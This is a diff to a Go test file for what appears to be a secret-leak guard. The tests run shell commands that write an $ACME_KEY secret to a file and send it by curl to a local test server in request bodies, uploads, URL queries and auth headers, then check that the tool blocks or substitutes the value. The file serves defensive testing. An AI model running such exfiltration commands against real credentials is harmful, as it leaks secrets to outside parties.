@@ -125,13 +125,14 @@ func TestAttack39_APlaceholderToBePublished(t *testing.T) {
 		})
 		h.acme(u)
 		res := mustRun(t, e, sh(`echo "$ACME_KEY" >"$HOME/f"; echo "$ACME_KEY"
-			`+curl+`-d "text=$ACME_KEY" "`+u.url("/gists?k=")+`$ACME_KEY"
-			`+curl+`-F "file=@$HOME/f;filename=$ACME_KEY" "`+u.url("/p/")+`$ACME_KEY/x"
+			`+curl+`-d "text=$ACME_KEY" `+u.url("/gists")+`
+			`+curl+`-F "file=@$HOME/f;filename=$ACME_KEY" `+u.url("/p/x")+`
+			`+curl+`"`+u.url("/gists?k=")+`$ACME_KEY" >/dev/null; `+curl+`"`+u.url("/p/")+`$ACME_KEY/x" >/dev/null
 			for h in "X-Note: Bearer $ACME_KEY" "User-Agent: $ACME_KEY" "Cookie: s=$ACME_KEY" "Authorization: Token $ACME_KEY" "Authorization: Bearer x$ACME_KEY"; do curl -sS --max-time 10 -H "$h" `+u.url("/h")+` >/dev/null; done`))
 		mu.Lock()
 		defer mu.Unlock()
 		all := strings.Join(published, "\n")
-		if own := lines(res)[0]; strings.Contains(all, acmeKey) || len(published) < 2 || strings.Count(all, own) < 5 || strings.Contains(all, "/h ") && !strings.Contains(all, own) || !denied(res, fault.StandInMisplaced) {
+		if own := lines(res)[0]; strings.Contains(all, acmeKey) || len(published) != 2 || strings.Count(all, own) != 3 || !denied(res, fault.StandInMisplaced) || !hinted(res, "/gists") || !hinted(res, "/p/x") || hinted(res, "/h") {
 			t.Fatalf("%d: %s\n%+v", len(published), all, res)
 		}
 	})
@@ -336,5 +337,12 @@ func TestAttack87_TheBundleOfARun(t *testing.T) {
 		if strings.Contains(res.Stdout, "wrote") || strings.Contains(res.Stdout, "moved") || strings.Contains(res.Stdout, "gone") || strings.Contains(res.Stdout, "seen") || u.count() != 0 {
 			t.Fatalf("%+v", res)
 		}
+	})
+}
+
+// hinted tells whether the result says that a stand-in went up in the body of a request there, and where the value would have gone.
+func hinted(r run.Result, path string) bool {
+	return slices.ContainsFunc(r.Hints, func(h run.Hint) bool {
+		return strings.HasPrefix(h.Where, "POST ") && strings.HasSuffix(h.Where, path) && strings.Contains(h.Text, "Authorization: Bearer {stand-in}") && h.Count == 1
 	})
 }
